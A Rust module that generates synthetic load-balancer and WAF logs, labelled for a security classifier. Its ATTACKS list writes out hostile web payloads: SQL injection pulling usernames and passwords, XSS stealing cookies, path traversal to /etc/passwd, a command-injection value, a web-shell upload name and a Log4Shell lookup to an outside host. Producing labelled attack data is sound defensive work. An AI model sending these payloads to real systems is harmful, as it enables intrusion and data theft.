//! The web tier: ALB access logs and the WAF in front of it.

use chrono::{DateTime, Duration, Utc};
use serde_json::json;

use super::{BROWSER_AGENTS, Env, LabelledRaw, Raw, Records, rfc3339_micros};
use crate::ml::Category;
use crate::record::LogType;
use crate::training::rng::SplitMix64;

const HOST: &str = "shop.example.com";

/// Benign paths with their method and typical status.
const PAGES: &[(&str, &str, i64, f64)] = &[
    ("GET", "/", 200, 10.0),
    ("GET", "/api/products?page={n}", 200, 14.0),
    ("GET", "/api/products/{id}", 200, 12.0),
    ("GET", "/api/cart", 200, 8.0),
    ("POST", "/api/cart/items", 201, 5.0),
    ("POST", "/api/orders", 201, 2.0),
    ("GET", "/static/app.{hex}.js", 200, 9.0),
    ("GET", "/static/styles.{hex}.css", 304, 6.0),
    ("GET", "/images/p/{id}.webp", 200, 9.0),
    ("POST", "/api/login", 200, 2.0),
    ("GET", "/api/account", 401, 0.8),
    ("GET", "/favicon.ico", 404, 0.6),
    ("GET", "/api/search?q={word}", 200, 5.0),
];

const WORDS: &[&str] = &[
    "shoes",
    "red+dress",
    "laptop",
    "coffee",
    "gift+card",
    "headphones",
    "desk",
];

/// Attack requests: (method, path and query). Written from OWASP and scanner behaviour.
const ATTACKS: &[(&str, &str)] = &[
    ("GET", "/.env"),
    ("GET", "/.git/config"),
    ("GET", "/wp-login.php"),
    ("GET", "/phpmyadmin/index.php"),
    ("GET", "/actuator/env"),
    (
        "GET",
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)",
    ),
    ("GET", "/api/products?id=1%27%20OR%20%271%27=%271"),
    (
        "GET",
        "/api/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
    ),
    (
        "GET",
        "/api/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    ),
    ("GET", "/static/..%2f..%2f..%2fetc%2fpasswd"),
    ("GET", "/api/export?file=../../../../etc/passwd"),
    ("GET", "/api/products?sort=(select(sleep(5)))"),
    ("POST", "/api/upload?name=shell.jsp%00.png"),
    ("GET", "/api/render?template={{7*7}}"),
    ("GET", "/?x=${jndi:ldap://198.18.0.1/a}"),
];

fn fill(template: &str, rng: &mut SplitMix64) -> String {
    template
        .replace("{n}", &rng.range(1, 40).to_string())
        .replace("{id}", &rng.range(1000, 99999).to_string())
        .replace("{hex}", &rng.hex(8))
        .replace("{word}", rng.pick::<&str>(WORDS))
}

/// Who asked the load balancer for what.
struct Request {
    client: String,
    method: &'static str,
    path: String,
    agent: &'static str,
}

/// A shopper's request for one of the site's pages, and the status that page usually gets.
fn shopper(rng: &mut SplitMix64, env: &Env) -> (Request, i64) {
    let client = env.internet_ip(rng);
    let (method, template, status, _) = *rng.pick_weighted(PAGES, |p| p.3);
    let path = fill(template, rng);
    let agent = *rng.pick(BROWSER_AGENTS);
    let request = Request {
        client,
        method,
        path,
        agent,
    };
    (request, status)
}

/// How the load balancer answered: the status, the target's status, the three processing
/// times in seconds (-1 for a stage never reached) and the bytes sent.
struct Response {
    status: i64,
    target_status: Option<i64>,
    request_s: f64,
    target_s: f64,
    response_s: f64,
    sent: i64,
}

impl Response {
    /// A target's response, after `target_s` seconds.
    fn from_target(status: i64, target_s: f64, sent: i64) -> Self {
        Response {
            status,
            target_status: Some(status),
            request_s: 0.001,
            target_s,
            response_s: 0.0,
            sent,
        }
    }

    /// The load balancer's own error when no target answered; `request_s` is -1 when it
    /// could not even route the request.
    fn without_target(status: i64, request_s: f64, sent: i64) -> Self {
        Response {
            status,
            target_status: None,
            request_s,
            target_s: -1.0,
            response_s: -1.0,
            sent,
        }
    }
}

fn alb_line(
    rng: &mut SplitMix64,
    env: &Env,
    t: DateTime<Utc>,
    request: &Request,
    response: Response,
) -> String {
    let target = format!("{}:8080", rng.pick(&env.instance_ips));
    let fmt_s = |s: f64| {
        if s < 0.0 {
            "-1".to_string()
        } else {
            format!("{s:.3}")
        }
    };
    let target_status = response
        .target_status
        .map_or("-".to_string(), |s| s.to_string());
    let target_field = if response.target_status.is_some() {
        target.clone()
    } else {
        "-".to_string()
    };
    format!(
        "https {} app/prod-web/50dc6c495c0c9188 {}:{} {target_field} {} {} {} {} {target_status} {} {} \"{} https://{HOST}:443{} HTTP/2.0\" \"{}\" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:us-east-1:{}:targetgroup/web/73e2d6bc24d8a067 \"Root=1-{:08x}-{}\" \"{HOST}\" \"arn:aws:acm:us-east-1:{}:certificate/5a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d\" 1 {} \"forward\" \"-\" \"-\" \"{target_field}\" \"{target_status}\" \"-\" \"-\" TID_{}",
        rfc3339_micros(t),
        request.client,
        rng.range(1024, 65535),
        fmt_s(response.request_s),
        fmt_s(response.target_s),
        fmt_s(response.response_s),
        response.status,
        rng.range(200, 1500),
        response.sent,
        request.method,
        request.path,
        request.agent,
        env.account,
        t.timestamp(),
        rng.hex(24),
        env.account,
        rfc3339_micros(t - Duration::milliseconds(rng.range(1, 50))),
        rng.hex(32),
    )
}

pub fn generate_alb(env: &Env, rng: &mut SplitMix64) -> Vec<LabelledRaw> {
    let mut rng = rng.fork("alb");
    let mut out = Records::new(LogType::Alb);
    for _ in 0..env.count(9_000) {
        let t = env.any_time(&mut rng);
        let (request, status) = shopper(&mut rng, env);
        let target_s = rng.log_normal(0.045, 0.7).min(1.5);
        let sent = if status == 304 {
            0
        } else {
            rng.log_normal(4000.0, 1.2) as i64
        };
        let response = Response::from_target(status, target_s, sent);
        let line = alb_line(&mut rng, env, t, &request, response);
        out.push(t, Raw::Line(line), Category::Normal, "benign/web");
    }
    // Server errors: targets crashing, refusing or missing.
    for _ in 0..env.count(40) {
        let mut t = env.any_time(&mut rng);
        let kind = rng.below(3);
        for _ in 0..rng.range(3, 20) {
            t += Duration::milliseconds(rng.range(10, 3000));
            let (request, _) = shopper(&mut rng, env);
            let response = match kind {
                0 => Response::without_target(502, 0.001, 272),
                1 => Response::without_target(503, -1.0, 162),
                _ => Response::from_target(500, rng.log_normal(0.2, 0.8), 1200),
            };
            let line = alb_line(&mut rng, env, t, &request, response);
            out.push(t, Raw::Line(line), Category::SystemError, "ops/http-5xx");
        }
    }
    // Slowness: saturated targets and timeouts.
    for _ in 0..env.count(40) {
        let mut t = env.any_time(&mut rng);
        for _ in 0..rng.range(3, 20) {
            t += Duration::milliseconds(rng.range(100, 5000));
            let (request, status) = shopper(&mut rng, env);
            let response = if rng.chance(0.3) {
                Response::without_target(504, 0.001, 202)
            } else {
                let target_s = rng.range(2_000, 28_000) as f64 / 1000.0;
                Response::from_target(status, target_s, 3000)
            };
            let line = alb_line(&mut rng, env, t, &request, response);
            out.push(t, Raw::Line(line), Category::Performance, "ops/http-slow");
        }
    }
    // Probes, injection attempts and credential stuffing.
    for n in 0..env.count(60) {
        let mut t = env.any_time(&mut rng);
        let attacker = env.internet_ip(&mut rng);
        let agent = *rng.pick(BROWSER_AGENTS);
        for _ in 0..rng.range(4, 30) {
            t += Duration::milliseconds(rng.range(50, 4000));
            let (method, path, status) = if n % 3 == 0 {
                (
                    "POST",
                    "/api/login".to_string(),
                    *rng.pick(&[401, 401, 401, 429, 200]),
                )
            } else {
                let (m, p) = *rng.pick(ATTACKS);
                (m, p.to_string(), *rng.pick(&[404, 403, 400, 500, 200]))
            };
            let target_s = rng.log_normal(0.03, 0.5);
            let request = Request {
                client: attacker.clone(),
                method,
                path,
                agent,
            };
            let response = Response::from_target(status, target_s, 500);
            let line = alb_line(&mut rng, env, t, &request, response);
            out.push(t, Raw::Line(line), Category::CriticalSecurity, "attack/web");
        }
    }
    out.into_vec()
}

/// `request` is (client address, method, path with query); `verdict` is (action,
/// terminating rule, rule type).
fn waf_entry(
    rng: &mut SplitMix64,
    env: &Env,
    t: DateTime<Utc>,
    request: (&str, &str, &str),
    verdict: (&str, &str, &str),
    non_terminating: Option<&str>,
) -> String {
    let (client, method, path) = request;
    let (action, rule_id, rule_type) = verdict;
    let (uri, args) = path.split_once('?').unwrap_or((path, ""));
    let labels = if rule_id.starts_with("AWS-") {
        json!([{"name": format!("awswaf:managed:aws:{}", rule_id.trim_start_matches("AWS-").to_ascii_lowercase())}])
    } else {
        json!([])
    };
    let matches = match non_terminating {
        Some(rule) => json!([{"ruleId": rule, "action": "COUNT", "ruleMatchDetails": []}]),
        None => json!([]),
    };
    json!({
        "timestamp": t.timestamp_millis(),
        "formatVersion": 1,
        "webaclId": format!("arn:aws:wafv2:us-east-1:{}:regional/webacl/prod-web/0b1c2d3e-4f5a-6b7c-8d9e-0f1a2b3c4d5e", env.account),
        "terminatingRuleId": rule_id,
        "terminatingRuleType": rule_type,
        "action": action,
        "terminatingRuleMatchDetails": [],
        "httpSourceName": "ALB",
        "httpSourceId": format!("{}-app/prod-web/50dc6c495c0c9188", env.account),
        "ruleGroupList": [],
        "rateBasedRuleList": [],
        "nonTerminatingMatchingRules": matches,
        "requestHeadersInserted": null,
        "responseCodeSent": null,
        "httpRequest": {
            "clientIp": client,
            "country": rng.pick(&["US", "DE", "GB", "FR", "BR", "IN", "NL", "CA"]),
            "headers": [{"name": "Host", "value": HOST}, {"name": "User-Agent", "value": rng.pick(BROWSER_AGENTS)}],
            "uri": uri,
            "args": args,
            "httpVersion": "HTTP/2.0",
            "httpMethod": method,
            "requestId": format!("1-{:08x}-{}", t.timestamp(), rng.hex(24)),
        },
        "labels": labels,
    })
    .to_string()
}

pub fn generate_waf(env: &Env, rng: &mut SplitMix64) -> Vec<LabelledRaw> {
    let mut rng = rng.fork("waf");
    let mut out = Records::new(LogType::Waf);
    const ALLOW: (&str, &str, &str) = ("ALLOW", "Default_Action", "REGULAR");
    for _ in 0..env.count(5_000) {
        let t = env.any_time(&mut rng);
        let client = env.internet_ip(&mut rng);
        let (method, template, _, _) = *rng.pick_weighted(PAGES, |p| p.3);
        let path = fill(template, &mut rng);
        let roll = rng.unit();
        let (verdict, counted) = if roll < 0.02 {
            // Large uploads trip the body size rule: a known false positive.
            (
                (
                    "BLOCK",
                    "AWS-AWSManagedRulesCommonRuleSet",
                    "MANAGED_RULE_GROUP",
                ),
                None,
            )
        } else if roll < 0.06 {
            (ALLOW, Some("AWS-AWSManagedRulesBotControlRuleSet"))
        } else {
            (ALLOW, None)
        };
        let entry = waf_entry(&mut rng, env, t, (&client, method, &path), verdict, counted);
        out.push(t, Raw::Json(entry), Category::Normal, "benign/waf");
    }
    for n in 0..env.count(70) {
        let mut t = env.any_time(&mut rng);
        let attacker = env.internet_ip(&mut rng);
        for _ in 0..rng.range(3, 25) {
            t += Duration::milliseconds(rng.range(50, 3000));
            let (entry, scenario) = match n % 4 {
                0 => (
                    waf_entry(
                        &mut rng,
                        env,
                        t,
                        (&attacker, "POST", "/api/login"),
                        ("BLOCK", "login-rate-limit", "RATE_BASED"),
                        None,
                    ),
                    "attack/waf-rate",
                ),
                1 => {
                    // Rules in count mode: the attack got through.
                    let (m, p) = *rng.pick(ATTACKS);
                    (
                        waf_entry(
                            &mut rng,
                            env,
                            t,
                            (&attacker, m, p),
                            ALLOW,
                            Some("AWS-AWSManagedRulesSQLiRuleSet"),
                        ),
                        "attack/waf-counted",
                    )
                }
                _ => {
                    let (m, p) = *rng.pick(ATTACKS);
                    let rule = *rng.pick(&[
                        "AWS-AWSManagedRulesSQLiRuleSet",
                        "AWS-AWSManagedRulesKnownBadInputsRuleSet",
                        "AWS-AWSManagedRulesCommonRuleSet",
                        "AWS-AWSManagedRulesLinuxRuleSet",
                    ]);
                    (
                        waf_entry(
                            &mut rng,
                            env,
                            t,
                            (&attacker, m, p),
                            ("BLOCK", rule, "MANAGED_RULE_GROUP"),
                            None,
                        ),
                        "attack/waf-blocked",
                    )
                }
            };
            out.push(t, Raw::Json(entry), Category::CriticalSecurity, scenario);
        }
    }
    out.into_vec()
}
